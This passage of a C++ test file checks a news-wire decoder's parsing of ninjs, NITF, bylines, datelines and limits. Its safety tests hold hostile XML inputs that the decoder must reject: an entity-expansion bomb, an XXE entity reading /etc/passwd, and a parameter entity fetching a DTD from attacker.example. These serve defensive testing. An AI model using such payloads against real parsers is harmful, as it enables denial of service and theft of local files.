  a = Decode(R"({"guid":"e","headline":"H","body_text":"B.","versioncreated":99999999999,)"
             R"("firstcreated":1709287200})");
  ASSERT_THAT(a, IsOk());
  EXPECT_EQ(a->published_at().seconds(), 1709287200);
  EXPECT_THAT(a->flags(), ElementsAre("date_unparsed"));
}

// A payload opening with "[" is a ninjs collection when the array holds an
// object, wherever; "[]" is a ninjs error; other bracketed text stays text.
TEST(NinjsTest, CollectionsAreSniffedByTheObjectsTheyHold) {
  for (const char* payload : {R"([null,{"guid":"g1","headline":"One","body_text":"First body."}])",
                              R"(["a",{"guid":"g1","headline":"One","body_text":"First body."}])"}) {
    absl::StatusOr<v1::Article> a = Decode(payload);
    ASSERT_THAT(a, IsOk()) << payload;
    EXPECT_EQ(a->format(), v1::FORMAT_NINJS) << payload;
    EXPECT_EQ(a->text(), "One\n\nFirst body.") << payload;
    EXPECT_THAT(a->flags(), ElementsAre("items_skipped")) << payload;
  }
  EXPECT_THAT(Decode(R"([[{"guid":"g1","headline":"One","body_text":"First body."}]])"),
              StatusIs(kInvalid,
                       "ninjs: top-level value is neither an object nor an array of objects"));
  EXPECT_THAT(Decode("[]"),
              StatusIs(kInvalid, "ninjs: empty collection (a JSON array without items)"));
  for (const char* payload : {"[UPDATE 1] Oil rises", "[1, 2]", "[\"a\", [null]]"}) {
    absl::StatusOr<v1::Article> a = Decode(payload);
    ASSERT_THAT(a, IsOk()) << payload;
    EXPECT_EQ(a->format(), v1::FORMAT_PLAIN_TEXT) << payload;
    EXPECT_EQ(a->text(), payload);
  }
}

// A body candidate that yields no text gives way to the next one.
TEST(NinjsTest, BodyWithoutTextFallsBackToTheNextCandidate) {
  for (const char* html : {"<p></p>", "<script>var x = 1;</script><style>p {}</style>",
                           "<div> <br/> </div>"}) {
    absl::StatusOr<v1::Article> a = Decode(absl::StrCat(
        R"({"guid":"x","headline":"H","body_html":")", html,
        R"(","body_text":"Fallback text."})"));
    ASSERT_THAT(a, IsOk()) << html;
    EXPECT_EQ(a->text(), "H\n\nFallback text.") << html;
    EXPECT_THAT(a->flags(), IsEmpty()) << html;
  }
  // Among "bodies": an empty HTML entry gives way to the plain text one.
  absl::StatusOr<v1::Article> a = Decode(
      R"({"guid":"x","headline":"H","bodies":[)"
      R"({"contentType":"text/plain","value":"Plain body."},)"
      R"({"contentType":"text/html","value":"<p> </p>"}]})");
  ASSERT_THAT(a, IsOk());
  EXPECT_EQ(a->text(), "H\n\nPlain body.");
  // A body with no text anywhere is still body_empty.
  a = Decode(R"({"guid":"x","headline":"H","body_html":"<p></p>"})");
  ASSERT_THAT(a, IsOk());
  EXPECT_THAT(a->flags(), Contains("body_empty"));
}

// A DOCTYPE in a markup body: entity declarations reject the message as they
// reject a standalone NITF; another internal subset is dropped, not read as text.
TEST(NinjsTest, DoctypeInAMarkupBodyNeverLeaksIntoTheText) {
  const std::string nitf =
      R"(<!DOCTYPE nitf [<!ENTITY lol \"lol\">]><nitf><body><body.content>)"
      R"(<p>&lol;&lol;</p></body.content></body></nitf>)";
  for (const char* field : {"body_nitf", "body_xhtml", "body_html", "body_text"}) {
    EXPECT_THAT(Decode(absl::StrCat(R"({"guid":"x","headline":"H",")", field, R"(":")", nitf,
                                    R"("})")),
                StatusIs(kInvalid, "XML entity declaration <!ENTITY lol> rejected (DTD "
                                   "entities are disabled)"))
        << field;
  }
  absl::StatusOr<v1::Article> a = Decode(
      R"({"guid":"x","headline":"H","body_xhtml":"<!DOCTYPE html [<!ELEMENT p ANY>]>)"
      R"(<html><body><p>Hi there.</p></body></html>"})");
  ASSERT_THAT(a, IsOk());
  EXPECT_EQ(a->text(), "H\n\nHi there.");
}

TEST(NinjsTest, BylinesSubjectsAndKeywordsInTheirVariants) {
  auto item = [](absl::string_view fields) {
    return Decode(absl::StrCat(R"({"uri": "urn:t:b", "headline": "H", )", fields, "}"));
  };
  const std::pair<const char*, const char*> bylines[] = {
      {R"("byline": "By Jane Smith")", "By Jane Smith"},
      {R"("byline": ["Jane Smith", "John Doe"])", "Jane Smith, John Doe"},
      {R"("bylines": [{"by": "By JOHN DOE", "title": "Associated Press"}, {"by": "RICHARD ROE"}])",
       "By JOHN DOE, Associated Press, RICHARD ROE"},
      {R"("by": "Von Christian Hollmann, dpa")", "Von Christian Hollmann, dpa"},
      {R"("by": [{"name": "A. Writer"}, {"name": "B. Editor"}])", "A. Writer, B. Editor"},
      {R"("byline": "", "by": "NTB")", "NTB"},
  };
  for (const auto& [fields, byline] : bylines) {
    absl::StatusOr<v1::Article> a = item(fields);
    ASSERT_THAT(a, IsOk()) << fields;
    EXPECT_EQ(a->byline_text(), byline) << fields;
    EXPECT_THAT(a->flags(), ElementsAre("body_empty")) << fields;
  }

  absl::StatusOr<v1::Article> a =
      item(R"("subject": {"code": "15000000", "scheme": "subj", "name": "sport"})");
  ASSERT_THAT(a, IsOk());
  EXPECT_THAT(a->wire().subjects(), ElementsAre("subj:15000000"));
  a = item(R"("subjects": [{"uri": "http://cv.iptc.org/newscodes/mediatopic/15000000", "name": "sport"},
                           {"qcode": "medtop:20000822"}, "medtop:04000000", "Football"])");
  ASSERT_THAT(a, IsOk());
  EXPECT_THAT(a->wire().subjects(), ElementsAre("http://cv.iptc.org/newscodes/mediatopic/15000000",
                                                "medtop:20000822", "medtop:04000000"));
  EXPECT_THAT(a->wire().keywords(), ElementsAre("Football"));
  a = item(R"("keywords": "budget, parliament ,tax")");
  ASSERT_THAT(a, IsOk());
  EXPECT_THAT(a->wire().keywords(), ElementsAre("budget", "parliament", "tax"));
  a = item(R"("keywords": [{"name": "budget"}, "tax"])");
  ASSERT_THAT(a, IsOk());
  EXPECT_THAT(a->wire().keywords(), ElementsAre("budget", "tax"));
  EXPECT_THAT(a->flags(), ElementsAre("body_empty"));
}

// ---- Safety ---------------------------------------------------------------------------

TEST(SafetyTest, EntityBombIsRejectedFast) {
  const std::string bomb = R"(<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<nitf><body><body.content><p>&lol9;</p></body.content></body></nitf>)";
  EXPECT_THAT(Decode(bomb), StatusIs(kInvalid, "XML entity declaration <!ENTITY lol> rejected "
                                               "(DTD entities are disabled)"));
}

TEST(SafetyTest, ExternalEntitiesAreRejected) {
  const std::string xxe = R"(<?xml version="1.0"?>
<!DOCTYPE newsItem [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<newsItem guid="x"><contentMeta><headline>&xxe;</headline></contentMeta></newsItem>)";
  EXPECT_THAT(Decode(xxe), StatusIs(kInvalid, HasSubstr("<!ENTITY xxe> rejected")));
  const std::string param = R"(<?xml version="1.0"?>
<!DOCTYPE nitf [<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;]>
<nitf/>)";
  EXPECT_THAT(Decode(param), StatusIs(kInvalid, HasSubstr("<!ENTITY ext> rejected")));
  // An external DTD is never loaded; undeclared HTML entities still decode.
  absl::StatusOr<v1::Article> a = Decode(R"(<?xml version="1.0"?>
<!DOCTYPE nitf SYSTEM "http://www.nitf.org/IPTC/NITF/3.5/specification/dtd/nitf-3-5.dtd">
<nitf><body><body.head><hedline><hl1>Caf&eacute; &amp; bar</hl1></hedline></body.head></body></nitf>)");
  ASSERT_THAT(a, IsOk());
  EXPECT_EQ(a->text(), "Caf\u00e9 & bar");
}

TEST(SafetyTest, MalformedXmlNamesTheProblem) {
  EXPECT_THAT(Decode("<nitf><body><p>unclosed</body></nitf>"),
              StatusIs(kInvalid, HasSubstr("XML not well-formed: ")));
}

TEST(SafetyTest, XmlDepthLimits) {
  std::string deep = "<nitf><body><body.content>";
  for (int i = 0; i < 40; ++i) deep += "<block>";
  deep += "<p>Deep text.</p>";
  for (int i = 0; i < 40; ++i) deep += "</block>";
  deep += "<p>Shallow text.</p></body.content></body></nitf>";
  DecodeOptions options;
  options.limits.xml_max_depth = 20;
  absl::StatusOr<v1::Article> a = Decode(deep, "", options);
  ASSERT_THAT(a, IsOk());
  EXPECT_EQ(a->text(), "Shallow text.");
  EXPECT_THAT(a->flags(), ElementsAre("xml_depth_limit", "headline_missing"));
  a = Decode(deep);  // default 100: everything is read
  ASSERT_THAT(a, IsOk());
  EXPECT_EQ(a->text(), "Deep text.\n\nShallow text.");

  std::string too_deep = "<nitf>";
  for (int i = 0; i < 300; ++i) too_deep += "<a>";
  EXPECT_THAT(Decode(too_deep), StatusIs(kExhausted, "XML nesting deeper than 256 levels"));
}

TEST(SafetyTest, JsonDepthLimit) {
  std::string deep = "{\"headline\": \"H\", \"x\": ";
  for (int i = 0; i < 100; ++i) deep += "[";
  for (int i = 0; i < 100; ++i) deep += "]";
  deep += "}";
  EXPECT_THAT(Decode(deep),
              StatusIs(kExhausted, "ninjs: JSON nested deeper than 64 levels (json_max_depth)"));
  DecodeOptions options;
  options.limits.json_max_depth = 200;
  EXPECT_THAT(Decode(deep, "", options), IsOk());
}

TEST(SafetyTest, OversizeInputTruncatedOrRejected) {
  std::string big = "Headline\n";
  for (int i = 0; i < 100; ++i) absl::StrAppend(&big, "Paragraph number ", i, ".\n");
  DecodeOptions options;
  options.max_bytes = 200;
  EXPECT_THAT(Decode(big, "", options), StatusIs(kExhausted, HasSubstr("exceeds max_bytes (200)")));
  options.oversize = DecodeOptions::Oversize::kTruncate;
  absl::StatusOr<v1::Article> a = Decode(big, "", options);
  ASSERT_THAT(a, IsOk());
  EXPECT_THAT(a->flags(), Contains("truncated"));
  EXPECT_EQ(Span(*a, a->paragraphs(0)), "Paragraph number 0.");
}

TEST(SafetyTest, TextLimits) {
  std::string text = "Headline\n";
  for (int i = 0; i < 10; ++i) absl::StrAppend(&text, "Paragraph ", i, ".\n");
  DecodeOptions options;
  options.text.max_paragraphs = 3;
  absl::StatusOr<v1::Article> a = Decode(text, "", options);
  ASSERT_THAT(a, IsOk());
  EXPECT_EQ(a->paragraphs_size(), 3);
  EXPECT_THAT(a->flags(), ElementsAre("truncated"));
  options = {};
  // "Headline\n\nParagraph 0.\n\nParagraph 1." is 36 bytes; "Pa" of the next one
  // would fit, but a later paragraph is cut at a space or not at all.
  options.text.max_text_bytes = 40;
  a = Decode(text, "", options);
  ASSERT_THAT(a, IsOk());
  EXPECT_EQ(a->text(), "Headline\n\nParagraph 0.\n\nParagraph 1.");
  EXPECT_THAT(a->flags(), ElementsAre("truncated"));
  // One paragraph bigger than the limit is cut at its last space before it, not
  // dropped (which left the body empty).
  options = {};
  options.text.max_text_bytes = 30;
  a = Decode("Headline\nSergey Lavrov met John Kerry in Geneva.\n", "", options);
  ASSERT_THAT(a, IsOk());
  EXPECT_EQ(a->text(), "Headline\n\nSergey Lavrov met");  // 26 bytes; "John" would pass 30
  ASSERT_EQ(a->paragraphs_size(), 1);
  EXPECT_EQ(Span(*a, a->paragraphs(0)), "Sergey Lavrov met");
  EXPECT_THAT(a->flags(), ElementsAre("truncated"));
}

// The flags the segment and quotes stages add to a decoded English article.
std::vector<std::string> QuoteFlags(v1::Article a) {
  a.set_language("en");
  absl::StatusOr<std::unique_ptr<SegmentStage>> segment = SegmentStage::Create({});
  EXPECT_THAT(segment, IsOk());
  EXPECT_THAT((*segment)->Process(a, StageContext()), IsOk());
  EXPECT_THAT(QuotesStage({}).Process(a, StageContext()), IsOk());
  return {a.flags().begin(), a.flags().end()};
}

TEST(TruncationTest, CutAtASentenceEndOutsideQuotesWithTheOriginalLength) {
  const std::string text =
      "Headline\nFirst paragraph.\nThe minister spoke. \u201cWe will not accept this. It is "
      "wrong,\u201d he said. Talks went on.\n";
  DecodeOptions options;
  // 90 bytes end inside the quote, after "accept this." (75 bytes): the cut steps
  // back to the sentence before the quote.
  options.text.max_text_bytes = 90;
  absl::StatusOr<v1::Article> a = Decode(text, "", options);
  ASSERT_THAT(a, IsOk());
  EXPECT_EQ(a->text(), "Headline\n\nFirst paragraph.\n\nThe minister spoke.");
  EXPECT_THAT(Paragraphs(*a), ElementsAre("First paragraph.", "The minister spoke."));
  EXPECT_THAT(a->flags(), ElementsAre("truncated"));
  EXPECT_EQ(a->original_text_bytes(), 115u);
  EXPECT_THAT(QuoteFlags(*a), Not(Contains("quote_unclosed")));
  // The old cut at the last space before the limit left the quote unclosed.
  absl::StatusOr<v1::Article> naive = Decode(
      "Headline\nFirst paragraph.\nThe minister spoke. \u201cWe will not accept this. It is\n");
  ASSERT_THAT(naive, IsOk());
  EXPECT_THAT(QuoteFlags(*naive), Contains("quote_unclosed"));
  // With room for the sentence that closes the quote, it is kept.
  options.text.max_text_bytes = 105;
  a = Decode(text, "", options);
  ASSERT_THAT(a, IsOk());
  EXPECT_EQ(a->text(), "Headline\n\nFirst paragraph.\n\nThe minister spoke. \u201cWe will not "
                       "accept this. It is wrong,\u201d he said.");
  EXPECT_EQ(a->original_text_bytes(), 115u);
  EXPECT_THAT(QuoteFlags(*a), Not(Contains("quote_unclosed")));
  // Nothing cut: no original length.
  a = Decode(text);
  ASSERT_THAT(a, IsOk());
  EXPECT_EQ(a->original_text_bytes(), 0u);
  EXPECT_THAT(a->flags(), IsEmpty());
}

TEST(TruncationTest, ParagraphCutKeepsAMultiParagraphQuoteOut) {
  // The second paragraph ends inside a quote that the third (opening with a mark,
  // the newspaper convention) continues; the third does not fit.
  const std::string text =
      "Headline\nIntro.\n\u201cWe will fight on,\u201d he said. \u201cWe will not stop.\n"
      "\u201cWe will win, and we will keep on fighting.\u201d\n";
  DecodeOptions options;
  options.text.max_text_bytes = 110;
  absl::StatusOr<v1::Article> a = Decode(text, "", options);
  ASSERT_THAT(a, IsOk());
  EXPECT_EQ(a->text(), "Headline\n\nIntro.");
  EXPECT_THAT(a->flags(), ElementsAre("truncated"));
  EXPECT_EQ(a->original_text_bytes(), 121u);
  EXPECT_THAT(QuoteFlags(*a), Not(Contains("quote_unclosed")));
  // max_paragraphs cuts at a paragraph boundary the same way.
  options = {};
  options.text.max_paragraphs = 2;
  a = Decode(text, "", options);
  ASSERT_THAT(a, IsOk());
  EXPECT_EQ(a->text(), "Headline\n\nIntro.");
  EXPECT_EQ(a->original_text_bytes(), 121u);
  EXPECT_THAT(QuoteFlags(*a), Not(Contains("quote_unclosed")));
}

TEST(RepeatedParagraphsTest, RunsOfIdenticalParagraphsAreCollapsed) {
  std::string text = "Headline\n\nIntro.\n\n";
  for (int i = 0; i < 200; ++i) text += "\u201cWe are ready,\u201d he said.\n\n";
  text += "Outro.\n\nIntro.\n";
  absl::StatusOr<v1::Article> a = Decode(text);
  ASSERT_THAT(a, IsOk());
  const std::string quote = "\u201cWe are ready,\u201d he said.";
  EXPECT_THAT(Paragraphs(*a), ElementsAre("Intro.", quote, quote, quote, "Outro.", "Intro."));
  EXPECT_THAT(a->flags(), ElementsAre("repeated_paragraphs_collapsed"));
  EXPECT_EQ(a->original_text_bytes(), 0u);
  // Three in a row are kept as they are.
  a = Decode("Headline\n\nSame.\n\nSame.\n\nSame.\n");
  ASSERT_THAT(a, IsOk());
  EXPECT_THAT(Paragraphs(*a), ElementsAre("Same.", "Same.", "Same."));
  EXPECT_THAT(a->flags(), IsEmpty());
}

TEST(DecodeFactoryTest, NewOptionsAreValidated) {
  v1::StageConfig config;
  config.set_name("decode");
  (*config.mutable_options())["xml_max_depth"] = "1000";
  EXPECT_THAT(StageRegistry::Global().Create(config),
              StatusIs(kInvalid, "options[\"xml_max_depth\"]: expected an integer in [8, 256], "
                                 "got \"1000\""));
  config.mutable_options()->clear();
  (*config.mutable_options())["oversize"] = "drop";
  EXPECT_THAT(StageRegistry::Global().Create(config), StatusIs(kInvalid, HasSubstr("options[\"oversize\"]")));
  config.mutable_options()->clear();
  for (const auto& [k, v] : std::vector<std::pair<std::string, std::string>>{
           {"max_bytes", "1024"}, {"oversize", "truncate"}, {"max_text_bytes", "4096"},
           {"max_paragraphs", "10"}, {"max_items", "5"}, {"xml_max_depth", "32"},
           {"json_max_depth", "16"}, {"charset_min_confidence", "60"},
           {"max_invalid_ratio", "0.05"}}) {
    (*config.mutable_options())[k] = v;
  }
  EXPECT_THAT(StageRegistry::Global().Create(config), IsOk());
}

// ---- Datelines and credits -------------------------------------------------------------

TEST(DatelineTest, TextualDatelinesInMarkupBodies) {
  struct Case {
    const char* paragraph;
    const char* place;
    const char* date;
    const char* agency;
    const char* span;
  };
  const Case cases[] = {
      {"GENEVA/BRUSSELS, Sept 12 (Reuters) - EU and U.N. officials met.", "GENEVA/BRUSSELS",
       "Sept 12", "Reuters", "GENEVA/BRUSSELS, Sept 12 (Reuters) -"},
      {"ASTANA, Kazakhstan (AP) \u2014 Leaders gathered on Monday.", "ASTANA, Kazakhstan", "", "AP",
       "ASTANA, Kazakhstan (AP) \u2014"},
      {"ROUND ROCK, Texas--(BUSINESS WIRE)--Dell today announced a server.", "ROUND ROCK, Texas",
       "", "BUSINESS WIRE", "ROUND ROCK, Texas--(BUSINESS WIRE)--"},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.paragraph);
    absl::StatusOr<v1::Article> a = Decode(absl::StrCat(
        "{\"headline\": \"H\", \"body_html\": \"<p>", c.paragraph, "</p>\"}"));
    ASSERT_THAT(a, IsOk());
    EXPECT_EQ(a->dateline().place(), c.place);
    EXPECT_EQ(a->dateline().date(), c.date);
    EXPECT_EQ(a->dateline().agency(), c.agency);
    EXPECT_EQ(Span(*a, a->dateline().span()), c.span);
  }
  // An ordinary sentence with a dash is no dateline.
  absl::StatusOr<v1::Article> a =
      Decode("{\"headline\": \"H\", \"body_text\": \"The talks - long delayed - resumed.\"}");
  ASSERT_THAT(a, IsOk());
  EXPECT_FALSE(a->has_dateline());
}

TEST(CreditsTest, ReutersAndApCreditLinesLeaveTheBody) {
  absl::StatusOr<v1::Article> a = Decode(
      "{\"headline\": \"H\", \"body_text\": \"First.\\n\\nLast fact. (Reporting by Ann Lee in "
      "Paris; Editing by Tom Brown)\\n\\nJohn Doe in Rome contributed to this report.\"}");
  ASSERT_THAT(a, IsOk());
  EXPECT_THAT(Paragraphs(*a), ElementsAre("First.", "Last fact."));
  EXPECT_THAT(a->credits(), ElementsAre("(Reporting by Ann Lee in Paris; Editing by Tom Brown)",
                                        "John Doe in Rome contributed to this report."));
  // A sentence mentioning reporting is kept.
  a = Decode("{\"headline\": \"H\", \"body_text\": \"One.\\n\\nReporting by the BBC was criticised "
             "by ministers, who said it was unfair to them and to others.\"}");
  ASSERT_THAT(a, IsOk());
  EXPECT_EQ(a->paragraphs_size(), 2);
  EXPECT_THAT(a->credits(), IsEmpty());
  // Every branch, in any case: a parenthesised line, a line opening with a credit
  // word, "contributed" mid-line, and a parenthetical ending the last paragraph.
  a = Decode("{\"headline\": \"H\", \"body_text\": \"One.\\n\\n(PHOTOS by Al Ray)\\n\\n"
             "ADDITIONAL REPORTING BY Bo Li\\n\\nStaff in Oslo CONTRIBUTED to this story.\"}");
  ASSERT_THAT(a, IsOk());
  EXPECT_THAT(Paragraphs(*a), ElementsAre("One."));
  EXPECT_THAT(a->credits(), ElementsAre("(PHOTOS by Al Ray)", "ADDITIONAL REPORTING BY Bo Li",
                                        "Staff in Oslo CONTRIBUTED to this story."));
  a = Decode("{\"headline\": \"H\", \"body_text\": \"One.\\n\\nTwo. (WRITING BY Cy Di) \\t\"}");
  ASSERT_THAT(a, IsOk());
  EXPECT_THAT(Paragraphs(*a), ElementsAre("One.", "Two."));
  EXPECT_THAT(a->credits(), ElementsAre("(WRITING BY Cy Di)"));
}

TEST(WireTimeTest, Formats) {
  EXPECT_EQ(absl::ToUnixSeconds(*ParseWireTime("2018-10-21T16:25:32-05:00")), 1540157132);
  EXPECT_EQ(absl::ToUnixSeconds(*ParseWireTime("20020225T143000-0500")), 1014665400);
  EXPECT_EQ(absl::ToUnixSeconds(*ParseWireTime("20130516T040100+0000")), 1368676860);
  EXPECT_EQ(absl::ToUnixSeconds(*ParseWireTime("Wed, 02 Oct 2002 13:00:00 GMT")), 1033563600);
  EXPECT_EQ(absl::ToUnixSeconds(*ParseWireTime("2 Oct 2002 08:00 -0500")), 1033563600);
  EXPECT_EQ(absl::ToUnixSeconds(*ParseWireTime("2013-09-12")), 1378944000);
  EXPECT_EQ(absl::ToUnixSeconds(*ParseWireTime("20130912")), 1378944000);
  EXPECT_FALSE(ParseWireTime("yesterday").has_value());
  EXPECT_FALSE(ParseWireTime("").has_value());
  // Outside 1900-01-01..2200-01-01 (UTC): a placeholder or an error, never 2262.
  EXPECT_EQ(absl::ToUnixSeconds(*ParseWireTime("1900-01-01T00:00:00Z")), -2208988800);
  EXPECT_EQ(absl::ToUnixSeconds(*ParseWireTime("2199-12-31T23:59:59Z")), 7258118399);
  for (const char* value : {"9999-12-31T00:00:00Z", "1899-12-31T23:59:59Z",
                            "2200-01-01T00:00:00Z", "00010101", "Fri, 31 Dec 9999 00:00:00 GMT",
                            "2199-12-31T23:59:59-01:00"}) {
    EXPECT_FALSE(ParseWireTime(value).has_value()) << value;
  }
  EXPECT_FALSE(IsPlausibleWireTime(absl::InfiniteFuture()));
  EXPECT_FALSE(IsPlausibleWireTime(absl::InfinitePast()));
  std::vector<std::string> flags;
  v1::Wire wire;
  EXPECT_FALSE(SetWireTime("9999-12-31", &wire, &v1::Wire::mutable_version_created, &flags));
  EXPECT_FALSE(wire.has_version_created());
  EXPECT_THAT(flags, ElementsAre("date_unparsed"));
  flags.clear();
  SetEmbargoTime("3000-01-01T00:00:00Z", &wire, &flags);
  EXPECT_THAT(flags, ElementsAre("embargo_unparsed"));
  EXPECT_EQ(ParsePubStatus("stat:usable"), v1::PUB_STATUS_USABLE);
  EXPECT_EQ(ParsePubStatus("Cancelled"), v1::PUB_STATUS_CANCELED);
  EXPECT_EQ(ParseUrgency("10"), 0u);
}

}  // namespace
}  // namespace newsd::stages
